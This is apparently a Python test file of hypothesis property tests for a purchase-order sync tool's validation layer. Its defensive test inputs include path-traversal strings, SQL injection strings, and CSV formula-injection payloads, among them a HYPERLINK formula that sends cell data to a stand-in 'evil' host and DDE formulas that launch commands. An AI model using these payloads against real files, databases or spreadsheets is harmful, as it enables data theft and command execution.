"""The validation layer (po_sync.validation): one rule per kind of outside value, with hypothesis
properties over each (issue 16, "Secrets and hostile input").

Properties:
* a validated path component (or relative folder) never leaves its root once joined;
* a quoted SuiteQL literal reads back as exactly the value and never closes its quote early;
* every CSV cell written and read back by a spreadsheet-like reader is never a formula, and our own
  reader gets the value back;
* a record id reaches a URL path only as digits (or ``eid:`` + an external id that needs no escaping).
"""

from __future__ import annotations

import csv
import io
import posixpath
import re
from urllib.parse import quote

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from po_sync.exceptions import ConfigurationError
from po_sync.validation import (
    MAX_PATH_COMPONENT,
    UnsafeValueError,
    config_path,
    csv_cell,
    csv_cell_value,
    document_numbers_param,
    is_path_component,
    is_record_id,
    is_safe_identifier,
    join_under,
    path_component,
    record_id,
    relative_path,
    suiteql_int,
    suiteql_literal,
    suiteql_string,
    url_segment,
)

PROPERTY = settings(max_examples=200, deadline=None)
ROOT = "/home/hotwax/netsuite/purchaseorder"
HOSTILE_NAMES = [
    "..",
    ".",
    "../../etc/passwd",
    "/etc/passwd",
    "a/b",
    "a\\b",
    "a\x00b",
    "a\nb",
    "a\rb",
    "a\u2028b",
    "",
    "x" * (MAX_PATH_COMPONENT + 1),
    "PO/2026/7",
]
# text with the characters that matter over-represented
nasty_text = st.lists(
    st.one_of(
        st.sampled_from(list("./\\'\"\x00\n\r\t=+-@ :;,%?#") + ["..", "../", "''"]),
        st.characters(codec="utf-8"),
    ),
    max_size=30,
).map("".join)


# ------------------------------------------------------------------------------------ path components


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_path_components_are_refused(name: str) -> None:
    assert not is_path_component(name)
    with pytest.raises(UnsafeValueError) as caught:
        path_component(name, what="PO number")
    assert caught.value.code == "UNSAFE_PATH" and "PO number" in caught.value.message


@PROPERTY
@given(nasty_text)
@example("..")
@example("...")
@example("..\n")
def test_a_validated_component_never_escapes_its_root(name: str) -> None:
    if not is_path_component(name):
        with pytest.raises(UnsafeValueError):
            join_under(ROOT, name)
        return
    joined = join_under(ROOT, name)
    normal = posixpath.normpath(joined)
    assert normal.startswith(ROOT + "/")
    assert posixpath.dirname(normal) == ROOT  # exactly one level below the root
    assert "\n" not in joined and "\x00" not in joined


@PROPERTY
@given(st.lists(nasty_text, min_size=1, max_size=5).map("/".join))
@example("../../outside")
@example("/absolute")
@example("netsuite/../../x")
@example("a//b")
def test_a_validated_folder_stays_under_the_root(folder: str) -> None:
    try:
        clean = relative_path(folder)
    except UnsafeValueError:
        assert (
            folder.startswith("/")
            or not folder.strip("/")
            or any(not is_path_component(p) for p in folder.rstrip("/").split("/"))
        )
        return
    normal = posixpath.normpath(posixpath.join(ROOT, clean))
    assert normal.startswith(ROOT + "/")
    assert normal == posixpath.join(ROOT, clean)  # nothing for normpath to collapse: no . or ..


def test_config_path_is_a_configuration_error_naming_the_setting() -> None:
    assert config_path("netsuite/purchaseorder/fulfillment/", what="remote_dir") == (
        "netsuite/purchaseorder/fulfillment"
    )
    for bad in ("../../etc", "/", "/tmp/x", "a/../b", "", "a\nb"):
        with pytest.raises(ConfigurationError, match="remote_dir"):
            config_path(bad, what="remote_dir")


# ------------------------------------------------------------------------------------ SuiteQL literals


def read_literal(query: str, start: int) -> tuple[str, int]:
    """Read one SQL string literal at ``start`` as a SQL lexer does; returns (value, end index)."""
    assert query[start] == "'"
    out, i = [], start + 1
    while i < len(query):
        if query[i] == "'":
            if i + 1 < len(query) and query[i + 1] == "'":
                out.append("'")
                i += 2
                continue
            return "".join(out), i + 1
        out.append(query[i])
        i += 1
    raise AssertionError("unterminated literal")


@PROPERTY
@given(nasty_text)
@example("PO000001' OR '1'='1")
@example("x'")
@example("''")
def test_a_quoted_suiteql_string_round_trips_and_never_closes_the_quote(value: str) -> None:
    for quote_it in (suiteql_literal, suiteql_string):
        try:
            literal = quote_it(value)
        except UnsafeValueError as exc:
            assert exc.code == "BAD_IDENTIFIER"
            continue
        query = f"SELECT id FROM transaction WHERE tranid = {literal} ORDER BY id"
        start = query.index("= ") + 2
        read, end = read_literal(query, start)
        assert read == value
        assert query[end:] == " ORDER BY id"  # the literal ended exactly where the quoting said


@PROPERTY
@given(nasty_text)
def test_suiteql_literal_accepts_only_the_identifier_rule(value: str) -> None:
    assert is_safe_identifier(value) == bool(re.fullmatch(r"[A-Za-z0-9 _\-./:]{1,100}", value))
    if is_safe_identifier(value):
        assert "'" not in value and "\n" not in value


@PROPERTY
@given(st.one_of(nasty_text, st.integers(), st.from_regex(r"[0-9]{1,18}", fullmatch=True)))
@example("12\n")
@example("١٢")  # Arabic-Indic digits: str.isdigit() says yes
@example("²")
def test_suiteql_int_is_ascii_digits_only(value: object) -> None:
    try:
        text = suiteql_int(value)
    except UnsafeValueError:
        return
    assert re.fullmatch(r"[0-9]+", text) and text.isascii()


def test_document_numbers_param_refuses_a_trailing_newline() -> None:
    assert document_numbers_param(["PO1"], param="p") == ["PO1"]
    with pytest.raises(ConfigurationError):
        document_numbers_param(["PO1\nPO2'"], param="p")


# ------------------------------------------------------------------------------------------ record ids


@PROPERTY
@given(st.one_of(nasty_text, st.from_regex(r"(eid:)?[A-Za-z0-9_.:-]{1,30}", fullmatch=True)))
@example("..")
@example("eid:..")
@example("eid:../vendor")
@example("12?limit=1")
@example("12#x")
@example("12\n")
@example("١٢")
def test_record_ids_reach_a_url_only_as_digits_or_a_plain_external_id(value: str) -> None:
    if not is_record_id(value):
        with pytest.raises(UnsafeValueError):
            record_id(value)
        return
    if value.startswith("eid:"):
        external = value[4:]
        assert external.strip(".") and quote(external, safe=":") == external  # nothing to escape
    else:
        assert value.isascii() and value.isdigit()


def test_netsuite_record_path_refuses_ids_that_are_not_ids() -> None:
    from po_sync.netsuite.hook import NetSuiteHook

    assert NetSuiteHook._record_path("purchaseOrder", "12") == "/record/v1/purchaseOrder/12"
    assert (
        NetSuiteHook._record_path("itemReceipt", "eid:HWRCPT-1-ab")
        == "/record/v1/itemReceipt/eid:HWRCPT-1-ab"
    )
    for bad in ("..", "12/../../vendor", "eid:..", "1 2", "12?expandSubResources=true", "12\n"):
        with pytest.raises(UnsafeValueError):
            NetSuiteHook._record_path("purchaseOrder", bad)


@pytest.mark.parametrize("bad", ["..", "a/b", "0b8f-uuid?x=1", "", "x\n"])
def test_url_segment_refuses_path_tricks(bad: str) -> None:
    with pytest.raises(UnsafeValueError):
        url_segment(bad)
    assert url_segment("0adfd74a-153e-11e9-f336-2a0f5a0c4b3a") == "0adfd74a-153e-11e9-f336-2a0f5a0c4b3a"


# ------------------------------------------------------------------------------------------ CSV cells


def spreadsheet_reads_as_formula(cell: str) -> bool:
    """What Excel / LibreOffice / Sheets do with a cell they open (OWASP CSV injection model): a
    leading ``'`` makes it text; otherwise, after leading tabs and carriage returns, a ``= + - @``
    starts a formula unless the cell is a plain number."""
    if cell.startswith("'"):
        return False
    bare = cell.lstrip("\t\r")
    if not bare.startswith(("=", "+", "-", "@")):
        return False
    return re.fullmatch(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)", bare) is None


FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]


@PROPERTY
@given(st.lists(st.one_of(nasty_text, st.sampled_from(FORMULAS)), min_size=1, max_size=6))
def test_no_csv_cell_written_is_read_back_as_a_formula(values: list[str]) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(v) for v in values])
    (row,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert len(row) == len(values)
    for cell, value in zip(row, values, strict=True):
        assert not spreadsheet_reads_as_formula(cell), (value, cell)
        assert csv_cell_value(cell) == value  # our own reader gets exactly the value back


@pytest.mark.parametrize("number", ["-5", "+1.25", "-0.5", "12", "-.5"])
def test_plain_numbers_stay_numbers(number: str) -> None:
    assert csv_cell(number) == number


@pytest.mark.parametrize("field", ["custbody_x' OR 1=1 --", "custbody_x\n", "custbody x", "CUSTBODY_X"])
def test_hotwax_exported_field_must_be_a_field_id(field: str) -> None:
    from po_sync.hotwax.operators import HotWaxPurchaseOrderExportOperator

    with pytest.raises(ConfigurationError, match="exported_field"):
        HotWaxPurchaseOrderExportOperator(task_id="t", exported_field=field)
